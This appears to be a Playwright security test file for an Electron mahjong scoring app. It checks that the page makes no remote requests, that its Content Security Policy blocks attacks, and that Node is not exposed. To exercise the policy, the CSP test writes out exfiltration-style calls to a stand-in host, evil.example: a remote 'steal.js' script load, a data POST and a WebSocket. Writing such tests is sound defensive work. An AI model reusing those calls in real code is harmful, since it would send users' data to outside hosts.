/**
 * Electron security in the page (issue 7.3), on the built renderer in Chromium with the real
 * services (harness.ts): over a session with a full game recorded event by event from the page
 * and quick-scored games, and a visit to every screen, the renderer asks nothing of any
 * non-local address; the CSP (the meta tag of the built index.html) refuses remote and inline
 * scripts and remote connections; the page sees only `window.mahjmate`, frozen, with the
 * contract's channels, and no Node.
 */
import { generateGame, rng } from '../records/generate';
import { CHANNELS } from '../../src/shared/channels';
import { expect, test } from './harness';
import { quick, setUp } from './session-helpers';

test('a full recorded game and every screen: no request leaves the machine', async ({ page, app, origin }) => {
  const requests: string[] = [];
  page.context().on('request', (r) => requests.push(r.url()));
  await page.reload(); // count the page's own load too
  await expect(page.getByRole('button', { name: 'New session' })).toBeVisible();

  const sessionId = await setUp(page, { players: ['Ann', 'Bea', 'Cy', 'Dot'], centsPerPoint: 5 });
  await quick(page, 's30p', 1);
  await quick(page, 'wall', 2);
  // A full game, event by event, sent by the page itself through window.mahjmate (as the table screen does).
  const events = generateGame(rng(11), 90, false);
  const recorded = await page.evaluate(
    async ({ sessionId, events }) => {
      const g = await window.mahjmate.startGame({ sessionId });
      if (!g.ok) throw new Error(g.error.message);
      let n = 0;
      for (const event of events) {
        const r = await window.mahjmate.appendEvent({ gameId: g.value.id, event: event as never });
        if (!r.ok) throw new Error(`event ${n + 1}: ${r.error.message}`);
        n++;
      }
      const view = await window.mahjmate.loadGame({ gameId: g.value.id });
      return { n, stored: view.ok ? view.value.events.length : -1 };
    },
    { sessionId, events },
  );
  expect(recorded).toEqual({ n: events.length, stored: events.length });
  expect(events.length).toBeGreaterThan(20);

  // Every screen.
  for (const name of ['History', 'Stats', 'Players']) {
    await page.goto(origin + '/index.html');
    await page.getByRole('button', { name, exact: true }).click();
    await expect(page.getByRole('heading').first()).toBeVisible();
  }
  await page.goto(origin + '/index.html');
  await page.locator('button.session').first().click();
  await expect(page.getByRole('heading', { name: /^Session, / })).toBeVisible();

  const remote = requests.filter((u) => !u.startsWith(origin + '/') && !u.startsWith('data:') && !u.startsWith('blob:'));
  expect(remote).toEqual([]);
  expect(requests.filter((u) => u.startsWith(origin + '/')).length).toBeGreaterThan(2);
  void app;
});

test('the CSP refuses remote scripts, inline scripts and remote connections', async ({ page, pageProblems }) => {
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/steal.js';
    const loaded = new Promise<string>((ok) => {
      remote.onload = () => ok('loaded');
      remote.onerror = () => ok('refused');
    });
    document.head.append(remote);
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true';
    document.head.append(inline);
    let fetched = 'sent';
    try {
      await fetch('https://evil.example/collect', { method: 'POST', body: 'record' });
    } catch {
      fetched = 'refused';
    }
    const ws = await new Promise<string>((ok) => {
      try {
        const s = new WebSocket('wss://evil.example/socket');
        s.onerror = () => ok('refused');
        s.onopen = () => ok('open');
      } catch {
        ok('refused');
      }
    });
    await new Promise((r) => setTimeout(r, 100));
    return { script: await loaded, inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, fetched, ws, seen };
  });
  expect(violations.script).toBe('refused');
  expect(violations.inlineRan).toBe(false);
  expect(violations.fetched).toBe('refused');
  expect(violations.ws).toBe('refused');
  // Refused by the policy itself, before any network: script-src, connect-src.
  expect(violations.seen.some((v) => v.startsWith('script-src-elem https://evil.example'))).toBe(true);
  expect(violations.seen.some((v) => v.startsWith('script-src-elem inline'))).toBe(true);
  expect(violations.seen.some((v) => v.startsWith('connect-src https://evil.example'))).toBe(true);
  // These refusals are logged as console errors on purpose: they are the point of this test.
  const expected = pageProblems.filter((p) => /Content Security Policy|evil\.example|ERR_BLOCKED/.test(p));
  pageProblems.splice(0, pageProblems.length, ...pageProblems.filter((p) => !expected.includes(p)));
});

test('the page sees only window.mahjmate (frozen, the contract channels) and no Node', async ({ page }) => {
  const seen = await page.evaluate(() => {
    const api = (window as unknown as { mahjmate: Record<string, unknown> }).mahjmate;
    const w = window as unknown as Record<string, unknown>;
    return {
      keys: Object.keys(api).sort(),
      frozen: Object.isFrozen(api),
      node: ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron'].filter((k) => typeof w[k] !== 'undefined'),
    };
  });
  expect(seen.keys).toEqual([...CHANNELS].sort());
  // Built by the preload's own builder (src/shared/bridge.ts): its channels, frozen.
  expect(seen.frozen).toBe(true);
  expect(seen.node).toEqual([]);
});
